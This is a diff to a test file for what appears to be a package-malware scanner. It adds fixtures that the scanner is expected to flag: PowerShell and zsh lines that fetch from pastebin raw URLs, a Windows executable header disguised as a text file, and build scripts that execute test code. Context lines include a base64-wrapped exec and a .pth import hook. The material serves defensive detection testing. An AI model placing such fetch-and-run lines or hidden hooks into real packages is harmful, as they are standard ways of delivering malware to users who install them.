@@ -8,6 +8,7 @@ from moderation.scanning import of_archive, scan, shown
 from tests.factories.dists import make_sdist, make_wheel
 
 EVIL = "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+FAR_PE = b"MZ" + bytes(58) + (0x2000).to_bytes(4, "little") + bytes(0x1FC0) + b"PE\0\0" + bytes(90)
 PYC = b"\xa7\r\r\n" + bytes(12) + b"\xe3"
 ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
 PASTE = "get('https://pastebin.com/raw/abcd1234')"
@@ -116,6 +117,13 @@ TRICKS: dict[str, tuple[str, str, bytes | str]] = {
         "demo-1.0.data/data/Lib/Site-Packages/evil.pth",
         "import evil\n",
     ),
+    "a shell of Windows": (
+        "paste_site",
+        "demo/a.ps1",
+        "\n\u00fc\niwr https://pastebin.com/raw/abcd\n".encode("utf-16"),
+    ),
+    "another shell": ("paste_site", "demo/a.zsh", "curl https://pastebin.com/raw/abcd\n"),
+    "a far header": ("windows_program", "demo/a.txt", FAR_PE),
     "a native hook": ("startup_hook", "sitecustomize.so", ELF),
 }
 # In an sdist: rule, content of setup.py.
@@ -145,6 +153,9 @@ AT_BUILD = {
     ),
     "network by a part": ("build_uses_the_network", "from urllib import request as r\nr.urlopen"),
     "network by import": ("build_uses_the_network", "__import__('requests').get(x)\n"),
+    "code of a test": ("build_runs_what_lies_aside", "exec(open('tests/x.py').read())\n"),
+    "module of a test": ("build_runs_what_lies_aside", "from tests.x import y\n"),
+    "import of an example": ("build_runs_what_lies_aside", "import examples\n"),
     "install by class": ("takes_over_the_installation", "class E(install): ...\n"),
     "another install": ("takes_over_the_installation", "class E(orig_install): ...\n"),
     "two bases": ("takes_over_the_installation", "class E(object, install_lib): ...\n"),
@@ -179,6 +190,8 @@ ORDINARY_BUILDS = {
     "platform": "import os, platform\nif platform.system() == 'Windows': ...\n",
     "super": "class T(Command):\n    def run(self):\n        super().run()\n",
     "other words": "import socket\nfrom urllib.parse import quote\nfrom os import path\n",
+    "test command": "from setuptools.command.test import test as T\nimport doctest\n",
+    "version": "exec(open('demo/version.py').read())\n",
     "sdist": "setup(cmdclass=dict(test=T, sdist=S))\nx = dict(build=1, install=2)\n",
 }
 COMMENTS = {
